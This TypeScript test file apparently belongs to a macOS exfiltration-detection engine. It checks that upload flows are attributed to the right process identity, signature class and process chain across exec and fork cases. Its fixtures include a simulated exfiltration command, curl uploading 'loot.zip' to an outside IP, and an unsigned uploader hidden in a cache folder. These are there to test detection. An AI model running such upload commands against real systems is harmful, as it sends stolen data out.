/**
 * A process that opened an upload and then exec'd an Apple tool onto the socket (`exec cat >&3`): the flow keeps
 * the uploader's path (flow-store.ts, docs/flows.md "after an `exec cat >&3` the upload stays the uploader's"), and
 * so must the candidate's code identity, signature class and process chain.
 */
import { expect, it } from 'vitest';
import { parseQueryContext } from '../../sdk/query-context.js';
import { correlate } from './correlate.js';
import { correlationOptions } from './table.js';
import { MiB, NOW, buildWorld } from './testing/world.js';

const UPLOADER = { pid: 800, processStart: NOW - 3600, ppid: 1, originalPpid: 1, responsiblePid: 800, path: '/Users/eve/.cache/up', tty: false };

/** An unsigned uploader with a 60 MiB upload open since NOW - 600; /bin/cat is Apple's. */
function uploaderWorld() {
  return buildWorld({
    processes: [UPLOADER],
    signing: [
      { path: UPLOADER.path, cls: 'unsigned', cdhash: 'ee99' },
      { path: '/bin/cat', cls: 'apple_platform', signingId: 'com.apple.cat', cdhash: 'ca75' },
    ],
    flows: [{ pid: 800, processStart: UPLOADER.processStart, remote: '198.51.100.77', bytesOut: 60 * MiB, bytesIn: 20_000, firstSeen: NOW - 600, open: true }],
  });
}

it('an unsigned uploader that exec\'d /bin/cat onto its 60 MiB upload is still unsigned: AN0082 with the uploader\'s identity', () => {
  const world = uploaderWorld();
  // the exec, after the flow was first seen (eslogger exec event of the same instance)
  world.processes.observe({ pid: 800, processStart: UPLOADER.processStart, path: '/bin/cat', args: ['cat'], signingId: 'com.apple.cat', platformBinary: true, exec: true, source: 'eslogger', seenAt: NOW - 590 });
  const rows = correlate(world, correlationOptions(parseQueryContext(''))).rows;
  const an0082 = rows.filter((r) => r.analytic === 'AN0082');
  expect(an0082.map((r) => [r.path, r.signature_class, r.identity])).toEqual([[UPLOADER.path, 'unsigned', 'cdhash:ee99']]);
  const an0032 = rows.find((r) => r.analytic === 'AN0032')!;
  expect(an0032.identity).toBe('cdhash:ee99');
  expect(JSON.parse(an0032.process_chain)[0]).toMatchObject({ pid: 800, path: UPLOADER.path, identity: 'cdhash:ee99', signature_class: 'unsigned' });
});

it('a flow path that was only argv[0]\'s claim (no exec since) does not name the code: the kernel\'s path does', () => {
  const CHROME = '/Applications/Google Chrome.app/Contents/MacOS/Google Chrome';
  const world = buildWorld({
    // ps alone (no core answer yet): comm, argv[0], taken as the path
    processes: [{ ...UPLOADER, path: CHROME }],
    signing: [
      { path: UPLOADER.path, cls: 'unsigned', cdhash: 'ee99' },
      { path: CHROME, cls: 'developer_id', teamId: 'EQHXZ8M8AV', signingId: 'com.google.Chrome' },
    ],
    flows: [{ pid: 800, processStart: UPLOADER.processStart, remote: '198.51.100.77', bytesOut: 60 * MiB, bytesIn: 20_000, firstSeen: NOW - 600, open: true }],
  });
  world.processes.observe({ pid: 800, processStart: UPLOADER.processStart, path: UPLOADER.path, source: 'osquery', seenAt: NOW - 595 });
  const an0082 = correlate(world, correlationOptions(parseQueryContext(''))).rows.filter((r) => r.analytic === 'AN0082');
  expect(an0082.map((r) => [r.signature_class, r.identity, r.browser])).toEqual([['unsigned', 'cdhash:ee99', 0]]);
});

it('an exec dated the second the flow was first seen still leaves the upload to the uploader (the sampler saw its image on the socket)', () => {
  const world = uploaderWorld();
  // `exec cat >&3` right after connecting: eslogger's exec line carries the flow's first second
  world.processes.observe({ pid: 800, processStart: UPLOADER.processStart, path: '/bin/cat', args: ['cat'], signingId: 'com.apple.cat', platformBinary: true, exec: true, source: 'eslogger', seenAt: NOW - 600 });
  const an0082 = correlate(world, correlationOptions(parseQueryContext(''))).rows.filter((r) => r.analytic === 'AN0082');
  expect(an0082.map((r) => [r.path, r.signature_class, r.identity])).toEqual([[UPLOADER.path, 'unsigned', 'cdhash:ee99']]);
});

it('a fork of a sanctioned app that exec\'d curl, which connected in that same second, is curl\'s own upload: AN1415 stays, not sanctioned', () => {
  // Dropbox forks, the child execs /usr/bin/curl and curl connects at once; the sampler's first sight of the flow falls
  // in that second, before eslogger's exec line was read (the fork line was): the flow took the fork's image, Dropbox's.
  const DROPBOX = { pid: 1000, processStart: NOW - 9000, ppid: 1, responsiblePid: 1000, path: '/Applications/Dropbox.app/Contents/MacOS/Dropbox' };
  const T = NOW - 100;
  const world = buildWorld({
    processes: [DROPBOX, { pid: 1020, processStart: T, ppid: 1000, responsiblePid: 1000, path: DROPBOX.path, forkedFrom: { pid: 1000, processStart: DROPBOX.processStart } }],
    signing: [
      { path: DROPBOX.path, cls: 'developer_id', teamId: 'G7HH3F8CAK', signingId: 'com.getdropbox.dropbox' },
      { path: '/usr/bin/curl', cls: 'apple_platform', signingId: 'com.apple.curl' },
    ],
    flows: [{ pid: 1020, processStart: T, remote: '203.0.113.50', bytesOut: 15 * MiB, bytesIn: 8_000, firstSeen: T, lastSeen: NOW - 30 }],
  });
  world.processes.observe({ pid: 1020, processStart: T, path: '/usr/bin/curl', args: ['curl', '-T', 'loot.zip', 'https://203.0.113.50/'], signingId: 'com.apple.curl', platformBinary: true, exec: true, source: 'eslogger', seenAt: T });
  const rows = correlate(world, correlationOptions(parseQueryContext(''))).rows.filter((r) => r.pid === 1020);
  expect(rows.map((r) => [r.analytic, r.identity, r.sanctioned]).sort()).toEqual([
    ['AN0032', 'team:APPLE/com.apple.curl', 0],
    ['AN1415', 'team:APPLE/com.apple.curl', 0],
  ]);
});
